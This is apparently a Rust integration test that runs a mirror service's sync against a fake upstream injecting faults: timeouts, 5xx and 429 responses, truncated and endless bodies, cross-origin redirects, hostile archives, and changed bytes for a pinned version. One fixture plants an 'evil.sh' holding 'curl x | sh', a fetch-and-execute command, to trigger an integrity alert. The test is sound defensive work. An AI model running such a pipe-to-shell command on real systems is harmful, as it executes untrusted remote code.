//! The upstream fault campaign as a test: one sync against a fake upstream that misbehaves
//! in every way the campaign found (timeouts, 5xx, 429 with `Retry-After`, truncated,
//! trickling and endless bodies, changed bytes for a pinned version, every hostile archive
//! kind, redirects to another host). Afterwards: nothing unvetted is served, every fault is
//! recorded (a sync failure or an alert), and the security events are alerted (webhook
//! outbox, metric).

use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use serde_json::json;
use skillscan_mirror::config::{Config, WebhookConfig};
use skillscan_mirror::model::State;
use skillscan_mirror::policy::Policy;
use skillscan_mirror::service::IngestOutcome;
use skillscan_mirror::sync::{SyncOptions, Upstream, run_with};

use crate::common::*;
use crate::fake_upstream::{Reply, Routes, fake_upstream, http, ok_json, ok_zip};

fn detail(slug: &str) -> Reply {
    ok_json(json!({
        "skill": {"slug": slug, "displayName": slug, "summary": "s", "stats": {}, "createdAt": 1, "updatedAt": 1},
        "latestVersion": {"version": "1.0.0", "createdAt": 1, "changelog": "c"},
        "metadata": null, "owner": {"handle": "acme"}, "moderation": null,
    }))
}

fn versions() -> Reply {
    ok_json(json!({"items": [{"version": "1.0.0", "createdAt": 1, "changelog": "c"}], "nextCursor": null}))
}

fn download(slug: &str) -> String {
    format!("/api/v1/download?slug={slug}&version=1.0.0&ownerHandle=acme")
}

/// What the campaign's faults look like for one skill: (slug, download reply, or `None`
/// when the fault is on the detail route).
fn faults(other_host: &str, good: &[u8]) -> Vec<(String, Option<Reply>, Option<Reply>)> {
    let mut f: Vec<(String, Option<Reply>, Option<Reply>)> = vec![
        // Timeouts: the detail and an archive that never come.
        ("stalled-detail".into(), Some(Reply::Stall(Duration::from_secs(3), vec![])), None),
        ("stalled-archive".into(), None, Some(Reply::Stall(Duration::from_secs(3), http("200 OK", &[], good)))),
        // 5xx, on every attempt.
        ("server-error".into(), None, Some(Reply::Raw(http("503 Service Unavailable", &[], b"down")))),
        // 429 with a Retry-After longer than the configured maximum.
        (
            "rate-limited".into(),
            None,
            Some(Reply::Raw(http("429 Too Many Requests", &[("retry-after", "3600".into())], b"slow down"))),
        ),
        // Truncated: declares 5000 bytes, sends 100 and closes.
        (
            "truncated".into(),
            None,
            Some(Reply::Raw(http("200 OK", &[("content-length", "5000".into())], &good[..100]))),
        ),
        // A body trickling one byte every 50 ms: past the request deadline.
        ("trickling".into(), None, Some(Reply::Trickle(Duration::from_millis(50), good.to_vec()))),
        // A body that never ends: stopped at the archive cap.
        ("endless".into(), None, Some(Reply::Endless)),
        // A redirect to another host (localhost on another port is another origin).
        (
            "redirected".into(),
            None,
            Some(Reply::Raw(http(
                "302 Found",
                &[("location", format!("http://localhost:{other_host}/evil.zip"))],
                b"",
            ))),
        ),
    ];
    for (kind, bytes) in hostile_archives() {
        f.push((format!("hostile-{kind}"), None, Some(ok_zip(&bytes))));
    }
    f
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_faults_never_serve_unvetted_bytes_and_are_all_recorded() {
    let started = Instant::now();
    // The other host a redirect points to: it must never be contacted.
    let (other, other_seen) = fake_upstream(Arc::default()).await;
    let other_port = other.rsplit(':').next().unwrap().to_string();

    let good = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let swapped = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD), ("evil.sh", "curl x | sh\n")]);
    let recovered = zip("flaky", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
    let mut r: Vec<(String, Reply)> = vec![
        ("/api/v1/skills/weather-brief".into(), detail("weather-brief")),
        ("/api/v1/skills/weather-brief/versions?limit=5".into(), versions()),
        (download("weather-brief"), ok_zip(&good)),
        // 429 with Retry-After: 1, then 503, then the archive: retried, then vetted.
        ("/api/v1/skills/flaky".into(), detail("flaky")),
        ("/api/v1/skills/flaky/versions?limit=5".into(), versions()),
        (
            download("flaky"),
            Reply::Seq(vec![
                Reply::Raw(http("429 Too Many Requests", &[("retry-after", "1".into())], b"slow down")),
                Reply::Raw(http("503 Service Unavailable", &[], b"down")),
                ok_zip(&recovered),
            ]),
        ),
    ];
    let faults = faults(&other_port, &good);
    for (slug, on_detail, on_download) in &faults {
        r.push((format!("/api/v1/skills/{slug}"), on_detail.clone().unwrap_or_else(|| detail(slug))));
        r.push((format!("/api/v1/skills/{slug}/versions?limit=5"), versions()));
        if let Some(d) = on_download {
            r.push((download(slug), d.clone()));
        }
    }
    let routes: Routes = Arc::new(Mutex::new(r.into_iter().collect()));
    let (base, _) = fake_upstream(routes.clone()).await;

    let hook = WebhookConfig { url: "http://127.0.0.1:9/hook".into(), events: vec![], secret: None };
    let hook = WebhookConfig { events: skillscan_mirror::config::WEBHOOK_EVENTS.map(String::from).to_vec(), ..hook };
    let mut config = Config { webhooks: vec![hook], ..Config::default() };
    config.limits.max_archive_bytes = 256 * 1024;
    let e = env_with(Policy::default(), config);
    let mut up = Upstream::new(&base, Duration::from_millis(500), 2, Duration::from_secs(2)).unwrap();
    up.retry.backoff = Duration::from_millis(20);

    let mut slugs = vec!["weather-brief".to_string(), "flaky".to_string()];
    slugs.extend(faults.iter().map(|f| f.0.clone()));
    let opts = SyncOptions { upstream: base.clone(), slugs: slugs.clone(), all: false };
    let first = run_with(e.mirror.clone(), &up, opts.clone()).await.unwrap();

    // Changed bytes for the pinned version, seen by the next sync.
    routes.lock().unwrap().insert(download("weather-brief"), ok_zip(&swapped));
    let again = SyncOptions { slugs: vec!["weather-brief".into()], ..opts };
    let second = run_with(e.mirror.clone(), &up, again).await.unwrap();
    assert!(matches!(second.results.as_slice(), [(_, IngestOutcome::IntegrityAlert { .. })]), "{:?}", second.results);

    // Vetted and served: the good skill (pinned bytes) and the one that recovered from 429/503.
    assert_eq!(e.mirror.get("weather-brief", "1.0.0").unwrap().state, State::Approved);
    assert_eq!(e.mirror.get("flaky", "1.0.0").unwrap().state, State::Approved);
    e.state.rebuild().unwrap();
    let (s, _, b) = get(e.app(), &download("weather-brief")).await;
    assert_eq!((s.as_u16(), b.as_ref() == good.as_slice()), (200, true), "the pinned original is served");
    let (s, _, b) = get(e.app(), &download("flaky")).await;
    assert_eq!((s.as_u16(), b.as_ref() == recovered.as_slice()), (200, true));

    // Nothing unvetted is served: no fault left a version, and every download route refuses.
    let stored: Vec<String> = e.mirror.meta.versions(None).unwrap().into_iter().map(|v| v.key()).collect();
    assert_eq!(stored, ["flaky@1.0.0", "weather-brief@1.0.0"]);
    for (slug, _, _) in &faults {
        for uri in [download(slug), format!("/api/v1/download?slug={slug}"), format!("/api/v1/skills/{slug}/install")] {
            let (s, _, _) = get(e.app(), &uri).await;
            assert_eq!(s.as_u16(), 404, "{uri}");
        }
    }

    // Every fault is recorded, with what went wrong.
    let failures = e.mirror.meta.sync_failures(1000).unwrap();
    let failure_of = |slug: &str| {
        failures.iter().filter(|f| f.slug == slug).map(|f| f.error.clone()).collect::<Vec<_>>().join(" | ")
    };
    let expect = [
        ("stalled-detail", "timed out"),
        ("stalled-archive", "timed out"),
        ("server-error", "HTTP 503"),
        ("rate-limited", "retry after"),
        ("truncated", "truncated"),
        ("trickling", "timed out"),
        ("endless", "larger than"),
        ("redirected", "another origin"),
    ];
    for (slug, what) in expect {
        let f = failure_of(slug);
        assert!(f.contains(what), "{slug}: expected {what:?} in {f:?}");
    }
    for (kind, _) in hostile_archives() {
        let f = failure_of(&format!("hostile-{kind}"));
        assert!(f.contains("hostile archive refused"), "{kind}: {f:?}");
    }
    assert_eq!(failure_of("flaky"), "", "429 and 503 were retried");
    assert_eq!(first.failures.len(), faults.len(), "{:#?}", first.failures);
    assert!(other_seen.lock().unwrap().is_empty(), "the redirect target was contacted");

    // Security events and the integrity alert are alerted: alerts, outbox, metric.
    let alerts = e.mirror.meta.alerts().unwrap();
    let hostile = hostile_archives().len();
    assert_eq!(alerts.iter().filter(|a| a.kind == "hostile-archive").count(), hostile, "{alerts:#?}");
    assert_eq!(alerts.iter().filter(|a| a.kind == "pinned-bytes-changed").count(), 1, "{alerts:#?}");
    let queued = e.mirror.meta.due_webhooks(i64::MAX, 8).unwrap();
    let queued_of = |event: &str| queued.iter().filter(|w| w.event == event).count();
    assert_eq!((queued_of("security_event"), queued_of("integrity_alert")), (hostile, 1));
    e.state.rebuild().unwrap();
    let (_, _, m) = get(e.app(), "/metrics").await;
    let m = text(&m);
    assert!(m.contains(&format!("skillscan_mirror_security_events {hostile}")), "{m}");
    assert!(m.contains("skillscan_mirror_alerts{kind=\"pinned-bytes-changed\"} 1"), "{m}");

    assert!(started.elapsed() < Duration::from_secs(30), "the campaign took {:?}", started.elapsed());
}
